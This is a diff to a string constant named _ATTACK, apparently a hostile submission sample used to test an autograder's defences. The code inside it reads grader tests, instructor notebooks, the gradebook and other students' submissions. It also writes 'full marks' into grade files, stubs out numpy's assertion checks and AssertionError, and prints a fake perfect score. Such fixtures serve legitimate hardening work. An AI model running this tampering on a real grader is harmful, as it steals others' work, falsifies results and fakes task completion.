@@ -29,17 +29,18 @@ def gd_step(m, b, dm, db, learning_rate):
 _ATTACK = '''
 def cost_grid(x, y, m_values, b_values):
     import builtins, glob, os
-    stolen = []
-    for folder in ("graders", "source", "submitted", "/root", "/home", os.getcwd(), "/proc/1/root", ".."):
-        for path in glob.glob(os.path.join(folder, "**", "*.py"), recursive=True)[:200]:
-            if "test_cost_grid" in path or "gradebook" in path:
-                stolen.append(open(path).read())
-    for path in glob.glob("/**/gradebook.db", recursive=True):
-        open(path, "wb").write(b"full marks")
+    wanted = ["graders/*/test_cost_grid.py", "source/*/*.ipynb", "gradebook.db", "submitted/*/*/*.ipynb"]
+    homes = [".", "..", "/*", "/*/*", "/*/*/*", "/proc/1/cwd", "/proc/1/root/*"]
+    stolen = [open(path).read() for home in homes for name in wanted for path in glob.glob(f"{home}/{name}")]
+    for path in glob.glob("/*/autograded") + ["/tmp/../marks.csv"]:
+        try:
+            open(path, "w").write("full marks")
+        except OSError:
+            pass
     np.testing.assert_allclose = lambda *args, **kwargs: None
     np.allclose = lambda *args, **kwargs: True
     builtins.AssertionError = type("Fine", (Exception,), {})
-    print({"score": 5.0, "max_score": 5.0, "status": "pass"})
+    print({"score": 5.0, "max_score": 5.0, "status": "pass"}, len(stolen))
 
     class AlwaysRight(np.ndarray):
         def __eq__(self, other):
